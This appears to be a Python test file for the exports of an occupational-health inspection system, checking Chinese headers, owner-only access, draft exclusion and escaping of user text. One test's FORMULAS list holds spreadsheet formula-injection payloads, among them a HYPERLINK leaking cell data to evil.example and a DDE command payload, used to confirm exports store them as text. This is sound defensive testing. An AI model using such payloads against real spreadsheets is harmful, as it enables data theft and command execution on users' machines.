"""Exports for the national system: Chinese headers, the data as stored, progress, only for their owner."""
import csv
import io
import re
import time

from openpyxl import load_workbook

from tests.support import enterprise_in, login
from tests.sync.tablets import (HANDED_IN_ASSISTANCE, HANDED_IN_FOLLOWUP, HANDED_IN_VISIT, Tablet, hand_in_visit,
                                 sample_fields, visit_fields)


def _visit_with_results(client):
    tablet = Tablet(login(client, "lh_sampler"))
    enterprise = enterprise_in("临河区")
    visit = tablet.create("sampling_visit", visit_fields(enterprise.id, **HANDED_IN_VISIT))
    tablet.create("sample", sample_fields("EX-001", hazard_key="benzene", lab_concentration_mg_m3=4.2), parent=visit)
    tablet.create("sample", sample_fields("EX-002", hazard_key="toluene", post="调漆工",
                                          lab_concentration_mg_m3=12.5), parent=visit)
    tablet.create("sample", {"sample_code": "EX-003", "sample_type": "blank", "hazard_key": "benzene",
                             "collector": "activated_carbon_tube"}, parent=visit)
    hand_in_visit(tablet, visit)  # exports carry work handed in, never drafts
    results = tablet.push()["results"]
    assert {r["status"] for r in results} == {"applied"}, [r for r in results if r["status"] != "applied"]
    return enterprise


def _finished(caller, job):
    for _ in range(200):
        state = caller.get(f"/api/exports/{job['id']}").get_json()
        if state["status"] in ("done", "failed"):
            return state
        time.sleep(0.05)
    raise AssertionError("export did not finish")


def test_xlsx_export_read_back_matches_the_samples(client):
    enterprise = _visit_with_results(client)
    supervisor = login(client, "lh_supervisor")
    job = supervisor.post("/api/exports", json={"kind": "samples", "format": "xlsx"})
    assert job.status_code == 201
    state = _finished(supervisor, job.get_json())
    assert state["status"] == "done" and state["rows_done"] == 3 and state["progress_pct"] == 100
    with supervisor.get(f"/api/exports/{job.get_json()['id']}/file") as response:
        assert response.status_code == 200
        assert "attachment" in response.headers["Content-Disposition"]
        book = load_workbook(io.BytesIO(response.data), read_only=True)
    sheet = book["样品检测结果"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("用人单位名称", "统一社会信用代码", "行业类别") and "判定结果" in header
    by_code = {row[header.index("样品编号")]: dict(zip(header, row)) for row in rows[1:]}
    assert set(by_code) == {"EX-001", "EX-002", "EX-003"}
    benzene = by_code["EX-001"]
    assert benzene["用人单位名称"] == enterprise.name and benzene["统一社会信用代码"] == enterprise.credit_code
    assert benzene["职业病危害因素"] == "苯" and benzene["判定结果"] == "不符合" and benzene["浓度(mg/m³)"] == 4.2
    assert by_code["EX-002"]["判定结果"] == "符合" and by_code["EX-002"]["岗位/工种"] == "调漆工"
    assert by_code["EX-003"]["样品类型"] == "空白样"
    # 4 h at 0.2 L/min = 48 L
    assert benzene["采样时长(min)"] == 240 and abs(benzene["采样体积(L)"] - 48) < 1e-9


def test_csv_export_opens_in_excel_with_chinese_headers(client):
    _visit_with_results(client)
    supervisor = login(client, "lh_supervisor")
    job = supervisor.post("/api/exports", json={"kind": "samples", "format": "csv"}).get_json()
    _finished(supervisor, job)
    with supervisor.get(f"/api/exports/{job['id']}/file") as response:
        raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "用人单位名称" and len(rows) == 4


def test_exports_are_private_to_their_owner_and_unknown_kinds_refused(client):
    supervisor = login(client, "lh_cdc_supervisor")
    job = supervisor.post("/api/exports", json={"kind": "followups"}).get_json()
    _finished(supervisor, job)
    # Patients are the CDC's: the supervision agency's reviewer is told so, not handed an empty file.
    refused = login(client, "lh_supervisor").post("/api/exports", json={"kind": "followups"})
    assert refused.status_code == 403 and "不是本机构的工作" in refused.get_json()["error"]["message"]
    other = login(client, "city_supervisor")
    assert other.get(f"/api/exports/{job['id']}").status_code == 404
    assert supervisor.post("/api/exports", json={"kind": "passwords"}).status_code == 422
    assert login(client, "lh_sampler").post("/api/exports", json={"kind": "samples"}).status_code == 403


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(A1:A9)",
            "-2+3", "\t=1+1"]


def _formula_typed_everywhere(client):
    """Text a careless or hostile user types into fields that every export kind carries."""
    import uuid

    from tests.issuing.inspections import FINDINGS, complete_inspection

    sampler = Tablet(login(client, "lh_sampler"))
    visit = sampler.create("sampling_visit", visit_fields(enterprise_in("临河区").id, **HANDED_IN_VISIT))
    sampler.create("sample", sample_fields("FX-001", post=FORMULAS[0], lab_concentration_mg_m3=1.0), parent=visit)
    hand_in_visit(sampler, visit)
    assert {r["status"] for r in sampler.push()["results"]} == {"applied"}
    inspector = login(client, "lh_inspector")
    findings = [dict(FINDINGS[0], fact=FORMULAS[1], requirement=FORMULAS[2])]
    _, inspection, _ = complete_inspection(client, inspector, findings=findings)
    assert inspector.post("/api/documents", json={"id": str(uuid.uuid4()), "record_id": inspection,
                                                  "doc_type": "supervision_opinion"}).status_code == 201
    assistant = Tablet(login(client, "lh_assistant"))
    assisted = assistant.create("assistance_visit", {**HANDED_IN_ASSISTANCE, "enterprise_id": enterprise_in("临河区").id,
                                                     "visit_date": "2026-04-10", "problems_found": FORMULAS[3]})
    assistant.submit(assisted)
    results = assistant.push()["results"]
    assert {r["status"] for r in results} == {"applied"}, [r for r in results if r["status"] != "applied"]
    follow = Tablet(login(client, "lh_followup"))
    followup = follow.create("followup", {**HANDED_IN_FOLLOWUP, "case_no": FORMULAS[4], "patient_name": FORMULAS[5],
                                          "followup_date": "2026-04-10", "vital_status": "alive"})
    follow.submit(followup)
    results = follow.push()["results"]
    assert {r["status"] for r in results} == {"applied"}, [r for r in results if r["status"] != "applied"]


def _export(supervisor, kind, fmt):
    job = supervisor.post("/api/exports", json={"kind": kind, "format": fmt}).get_json()
    assert _finished(supervisor, job)["status"] == "done"
    with supervisor.get(f"/api/exports/{job['id']}/file") as response:
        return response.data


def test_formulas_typed_in_the_field_arrive_as_text_in_every_export(client):
    _formula_typed_everywhere(client)
    supervision, cdc = login(client, "lh_supervisor"), login(client, "lh_cdc_supervisor")
    for kind in ("samples", "findings", "rectifications", "assistance", "followups"):
        supervisor = supervision if kind in ("findings", "rectifications") else cdc
        book = load_workbook(io.BytesIO(_export(supervisor, kind, "xlsx")))  # full mode: data types are read
        cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
        typed = [cell for cell in cells if cell.value in FORMULAS]
        assert typed, kind
        assert all(cell.data_type == "s" for cell in typed), kind  # text, never a formula ("f")
        rows = list(csv.reader(io.StringIO(_export(supervisor, kind, "csv").decode("utf-8-sig"))))
        texts = [value for row in rows[1:] for value in row]
        assert any(value in [f"'{f}" for f in FORMULAS] for value in texts), kind
        assert not any(value.startswith(("=", "+", "@", "\t")) for value in texts), kind
    # Numbers stay numbers: a negative count or concentration is not text.
    book = load_workbook(io.BytesIO(_export(supervisor, "samples", "xlsx")))
    values = [cell.value for row in book.active.iter_rows(min_row=2) for cell in row]
    assert 1.0 in values


def test_drafts_are_not_exported_until_handed_in(client):
    tablet = Tablet(login(client, "lh_sampler"))
    visit = tablet.create("sampling_visit", visit_fields(enterprise_in("临河区").id, **HANDED_IN_VISIT))
    tablet.create("sample", sample_fields("DR-001", lab_concentration_mg_m3=1.0), parent=visit)
    tablet.push()
    supervisor = login(client, "lh_supervisor")

    def exported_codes():
        job = supervisor.post("/api/exports", json={"kind": "samples", "format": "csv"}).get_json()
        _finished(supervisor, job)
        with supervisor.get(f"/api/exports/{job['id']}/file") as response:
            rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        return [row[rows[0].index("样品编号")] for row in rows[1:]]
    assert exported_codes() == []
    hand_in_visit(tablet, visit)
    tablet.push()
    assert exported_codes() == ["DR-001"]


def _keys_of_forms_and_reference():
    """Every option key of every form version, every hazard and checklist key: words for machines, never a cell."""
    import json
    from pathlib import Path
    root = Path(__file__).resolve().parents[2]
    keys = set()
    for path in (root / "forms" / "definitions").rglob("*.json"):
        definition = json.loads(path.read_text(encoding="utf-8"))
        for entity in definition["entities"]:
            for section in entity["sections"]:
                for field in section["fields"]:
                    keys |= {choice["value"] for choice in field.get("choices") or []}
    for table in ("hazards/hazard_factors.json", "checklist/items.json"):
        keys |= {row["key"] for row in json.loads((root / "reference" / table).read_text(encoding="utf-8"))["rows"]}
    return keys - {"other"}  # 其他 is typed as a word too


def test_no_export_writes_an_option_key_or_a_long_decimal(client):
    _formula_typed_everywhere(client)
    keys = _keys_of_forms_and_reference()
    supervision, cdc = login(client, "lh_supervisor"), login(client, "lh_cdc_supervisor")
    for kind in ("samples", "findings", "rectifications", "assistance", "followups", "national"):
        supervisor = supervision if kind in ("findings", "rectifications") else cdc
        rows = list(csv.reader(io.StringIO(_export(supervisor, kind, "csv").decode("utf-8-sig"))))
        cells = [value for row in rows[1:] for value in row if value]
        assert cells, kind
        assert not [value for value in cells if value in keys], kind
        assert not [value for value in cells if re.fullmatch(r"-?\d+\.\d{5,}", value)], kind
    followups = list(csv.reader(io.StringIO(_export(cdc, "followups", "csv").decode("utf-8-sig"))))
    row = dict(zip(followups[0], followups[1]))
    assert (row["性别"], row["尘肺病种类"], row["期别"]) == ("男", "矽肺", "壹期")
    samples = list(csv.reader(io.StringIO(_export(cdc, "samples", "csv").decode("utf-8-sig"))))
    assert dict(zip(samples[0], samples[1]))["判定依据限值"].startswith("PC-TWA 3 mg/m³")
